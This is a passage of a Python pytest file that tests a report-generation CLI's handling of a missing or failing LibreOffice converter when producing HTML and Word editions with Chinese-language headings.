    assert cli.main(["run", "--processed", str(hostile_processed), "--reports", str(tmp_path / "reports"),
                     "--years", str(YEAR), "--areas", f"{CITY},{COUNTY}", "--formats", "html,docx"]) == 0
    assert len(runs[0]) == 2 and capsys.readouterr().err.count("未找到 LibreOffice") == 1


def test_a_failing_libreoffice_fails_the_word_edition_with_a_message() -> None:
    edition = Edition(SETTINGS)
    edition.add('<section><nav class="toc"><h2>目　录</h2><ol><li>一、甲</li></ol></nav></section>'
                '<section><h2>一、甲</h2><p>正文。</p></section>')
    edition.finish("标题", "标题", "评估单位", dt.datetime.now(dt.UTC))
    with pytest.raises(RenderError, match="LibreOffice"):
        edition.paginate(shutil.which("false"), 60)
